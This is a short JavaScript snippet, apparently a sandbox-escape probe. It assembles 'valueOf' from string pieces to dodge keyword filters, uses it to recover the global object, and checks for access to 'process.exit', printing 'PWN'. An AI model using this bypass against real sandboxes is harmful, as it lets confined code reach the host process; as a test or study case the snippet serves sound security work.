// valueOf by a name that is put together gives its this back.
const v = ({})['value' + 'Of']; function f() { return v.call(this); } console.log('PWN', typeof f().process.exit);
